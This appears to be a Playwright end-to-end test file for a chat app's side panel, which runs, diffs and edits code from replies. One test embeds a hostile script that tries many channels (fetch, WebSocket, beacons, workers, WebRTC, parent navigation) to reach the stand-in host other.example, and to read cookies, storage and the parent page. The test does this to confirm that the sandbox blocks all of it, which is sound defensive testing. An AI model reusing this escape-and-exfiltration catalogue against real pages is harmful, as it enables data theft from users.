"""A text beside the chat: opened, run, compared and edited."""

import pytest
from playwright.sync_api import Browser, Locator, expect

from tests.e2e.chat_page import ChatPage, Window
from tests.e2e.input_methods import reach
from tests.fake_cloudflare.text_scenarios import says_line
from tests.support.server import Server

COUNTER = """<h1>Counter</h1><p id="n">0</p>
<button onclick="document.getElementById('n').textContent = ++count">Add</button>
<script>let count = 0; document.body.append(window.origin);</script>
"""
FIRST = f"Here:\n\n```python\nx = 1\n```\n\n```html\n{COUNTER}```\n\nDone.\n"
SECOND = f"```html\n{COUNTER.replace('Counter', 'Counting')}```\n"
DIAGRAM = "```mermaid\nflowchart TD\n  A[Start] --> B[End]\n```\n"
PHONE = {"width": 390}


@pytest.fixture(scope="module")
def chromium(whole_chromium: Browser) -> Browser:
    """What runs has a process of its own, which the headless shell does not give it."""
    return whole_chromium


def asked(chat: ChatPage, *replies: str) -> ChatPage:
    for reply in replies:
        chat.asked(f"Go on.\n{says_line(reply, size=40)}")
    return chat


def panel(chat: ChatPage) -> Locator:
    return chat.page.locator("dialog.beside")


def link(chat: ChatPage, name: str) -> Locator:
    return panel(chat).get_by_role("navigation").get_by_role("link", name=name, exact=True)


def test_a_block_opens_runs_is_edited_and_compared(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), FIRST, SECOND)
    run = chat.reply.get_by_role("button", name="Run", exact=True)
    reach(run)
    chat.page.keyboard.press("Enter")
    frame = panel(chat).frame_locator("iframe")
    expect(frame.locator("body")).to_contain_text("null")
    frame.get_by_role("button", name="Add").press("Enter")  # a click can come before the frame is drawn
    expect(frame.locator("#n")).to_have_text("1")
    expect(panel(chat)).to_contain_text("Version 2 of 2")

    link(chat, "What changed").click()
    expect(panel(chat).locator("del")).to_have_text("Counter")
    expect(panel(chat).locator("ins")).to_have_text("Counting")

    link(chat, "Edit").click()
    box = panel(chat).get_by_role("textbox")
    expect(box).to_be_focused()
    box.fill("<h1>By hand</h1>")
    chat.page.reload()
    run.press("Enter")  # the page may still move to its place, and a click would miss
    link(chat, "Edit").click()
    expect(box).to_have_value("<h1>By hand</h1>")
    panel(chat).get_by_role("button", name="Save").click()
    expect(panel(chat)).to_contain_text("Version 3 of 3")
    expect(chat.reply).to_contain_text("Edited by hand")
    expect(chat.reply).to_contain_text("<h1>By hand</h1>")
    chat.page.keyboard.press("Escape")
    expect(panel(chat)).to_be_hidden()

    changed = chat.reply.get_by_role("link", name="What changed")
    changed.press("Enter")
    expect(panel(chat).locator("ins").first).to_be_visible()
    chat.page.keyboard.press("Escape")
    expect(changed).to_be_focused()


def test_a_letter_between_backticks_is_read_and_copied_whole(window: Window, server: Server) -> None:
    letter = f"**Heating**\n\n{'Dear Mr Huber, it is cold. ' * 20}\n"
    chat = asked(ChatPage.open(window, server, width=390), f"Here:\n\n```markdown\n{letter}```\n")
    code = chat.reply.locator("figure pre")
    assert code.evaluate("code => code.scrollWidth <= code.clientWidth")
    expect(chat.reply.get_by_role("button", name="Wrap lines")).to_have_count(0)
    chat.reply.get_by_role("button", name="Open beside the chat").click()
    expect(panel(chat).locator("strong")).to_have_text("Heating")
    chat.page.context.grant_permissions(["clipboard-read", "clipboard-write"])
    panel(chat).get_by_role("button", name="Copy").click()
    chat.page.wait_for_function(
        "navigator.clipboard.readText().then((text) => text.startsWith('Heating\\n\\nDear Mr'))"
    )


def test_an_edit_that_was_not_saved_is_there_after_a_reload(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), "A letter.\n")
    open_reply(chat)
    link(chat, "Edit").click()
    panel(chat).get_by_role("textbox").fill("My letter.")
    chat.page.reload()
    open_reply(chat)
    expect(panel(chat).get_by_role("textbox")).to_have_value("My letter.")
    panel(chat).get_by_role("link", name="Cancel").click()
    expect(panel(chat)).to_contain_text("A letter.")


def open_reply(chat: ChatPage) -> None:
    chat.reply.locator("[data-action=more]").click()
    chat.page.get_by_role("menuitem", name="Open beside the chat").click()
    expect(panel(chat).get_by_role("heading", name="Reply")).to_be_visible()


def test_the_next_reply_comes_with_its_version(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), FIRST)
    chat.reply.get_by_role("button", name="Open beside the chat").click()
    expect(panel(chat).locator("code")).to_have_text("x = 1\n")
    asked(chat, "```python\nx = 2\n```\n")
    expect(panel(chat).locator("code")).to_have_text("x = 2\n")
    expect(chat.box).to_be_focused()


def test_the_chat_keeps_its_place_beside_the_text(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server, width=1024), FIRST)
    chat.reply.get_by_role("button", name="Open beside the chat").click()
    wide = panel(chat).get_by_role("button", name="Wide")
    for _ in range(2):
        assert chat.page.locator("#chat").bounding_box()["width"] >= 360  # type: ignore[index]
        wide.click()
    chat.asked("Still here?")


def test_on_a_phone_it_covers_the_chat_and_back_closes_it(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server, **PHONE), FIRST)
    address = chat.page.url
    chat.reply.get_by_role("button", name="Open beside the chat").click()
    expect(panel(chat).locator("code")).to_have_text("x = 1\n")
    assert (panel(chat).bounding_box() or {}).items() >= {"x": 0, "y": 0, "width": 390}.items()
    chat.page.go_back()
    expect(panel(chat)).to_be_hidden()
    expect(chat.page).to_have_url(address)
    chat.reply.get_by_role("button", name="Open beside the chat").click()
    expect(panel(chat)).to_be_visible()
    chat.page.keyboard.press("Escape")
    expect(panel(chat)).to_be_hidden()
    expect(chat.page).to_have_url(address)


def test_a_diagram_is_drawn(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), DIAGRAM)
    chat.reply.get_by_role("button", name="Run", exact=True).click()
    drawn = panel(chat).frame_locator("iframe").locator("svg")
    expect(drawn.get_by_text("Start", exact=True)).to_be_visible()


LEAVING = """
const host = 'http://other.example';
const add = (html) => document.body.insertAdjacentHTML('beforeend', html);
const make = (name, values) => document.body.append(Object.assign(document.createElement(name), values));
const all = [
  () => fetch(`${host}/fetch`).catch(() => {}),
  () => new WebSocket('ws://other.example'),
  () => navigator.sendBeacon(`${host}/beacon`),
  () => (new Image().src = `${host}/image`),
  () => import(`${host}/module.js`).catch(() => {}),
  () => window.open(`${host}/window`),
  () => (top.location = `${host}/top`),
  () => (parent.location = `${host}/parent`),
  () => add(`<style>@import url(${host}/sheet); p { background: url(${host}/css) }</style>`),
  () => add(`<video src="${host}/video"></video><object data="${host}/object"></object>`),
  () => add(`<form action="${host}/form"></form>`),
  () => document.forms[0].submit(),
  () => ["prefetch", "preload", "preconnect"].map((rel) => make("link", { rel, href: `${host}/${rel}` })),
  () => make('iframe', { srcdoc: '<script>parent.postMessage(typeof RTCPeerConnection, "*")<\\/script>' }),
  () => new Worker(URL.createObjectURL(new Blob([`fetch("${host}/worker")`]))),
  () => navigator.serviceWorker.register('/sw.js').catch(() => {}),
  () => new RTCPeerConnection({ iceServers: [{ urls: 'stun:other.example' }] }),
];
const said = [];
addEventListener('message', ({ data }) => said.push(`nested ${data}`));
for (const one of all) try { one() } catch {}
const reads = {
  cookie: () => document.cookie,
  storage: () => localStorage.length,
  parent: () => parent.document.title,
  address: () => parent.location.href,
  rtc: () => RTCPeerConnection,
};
for (const [name, read] of Object.entries(reads)) try { read(); said.push(`read ${name}`) } catch {}
setTimeout(() => document.body.append(`said: ${said.join()};`), 500);
"""
HOSTILE = f"<title>secret</title><body><p>x</p><script>{LEAVING}</script></body>\n"
ENDLESS = "<p>began</p><script>setTimeout(() => { for (;;); }, 200)</script>\n"


def test_what_runs_reaches_nobody(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), f"```html\n{HOSTILE}```\n")
    address = chat.page.url
    answered: list[str] = []
    chat.page.context.on("response", lambda response: answered.append(response.url))
    opened: list[str] = []
    chat.page.context.on("page", lambda page: opened.append(page.url))
    chat.reply.get_by_role("button", name="Run", exact=True).click()
    expect(panel(chat).frame_locator("iframe").locator("body")).to_contain_text("said: ;")
    assert not [url for url in answered if "other.example" in url]
    assert (opened, chat.page.url) == ([], address)


def test_code_that_never_ends_does_not_stop_the_chat(window: Window, server: Server) -> None:
    chat = asked(ChatPage.open(window, server), f"```html\n{ENDLESS}```\n")
    chat.reply.get_by_role("button", name="Run", exact=True).click()
    expect(panel(chat).frame_locator("iframe").get_by_text("began")).to_be_visible()
    chat.page.wait_for_timeout(500)
    chat.box.fill("Still here?")
    panel(chat).get_by_role("button", name="Close").click()
    expect(panel(chat)).to_be_hidden()
    expect(chat.box).to_have_value("Still here?")
